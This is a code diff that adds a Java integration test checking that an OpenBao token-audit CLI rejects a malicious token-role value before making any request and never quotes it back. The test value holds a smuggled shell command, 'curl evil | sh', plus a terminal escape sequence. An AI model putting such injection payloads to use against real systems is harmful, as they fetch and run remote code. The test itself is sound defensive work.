@@ -330,6 +330,27 @@ class AuditTokensIT {
         .isPresent();
   }
 
+  @Test
+  void aTokenRoleOpenBaoWouldRefuseStopsTheAuditBeforeAnyRequestAndIsNeverQuoted() {
+    editBackend(
+        edited ->
+            edited
+                .getSpec()
+                .getOpenbao()
+                .getAuth()
+                .getRotation()
+                .setTokenRole("x; curl evil | sh #\u001b]0;owned\u0007"));
+    fixture.bao.requestLog().clear();
+
+    CliHarness.Result refused = audit("--min-age", "0s");
+
+    assertThat(refused.exitCode()).as(refused.toString()).isEqualTo(1);
+    assertThat(refused.stderr())
+        .contains("names a token role that OpenBao would refuse")
+        .doesNotContain("curl");
+    assertThat(fixture.bao.requestLog().answered()).as("no request before the refusal").isZero();
+  }
+
   private void editBackend(Consumer<SecretBackend> edit) {
     client
         .resources(SecretBackend.class)
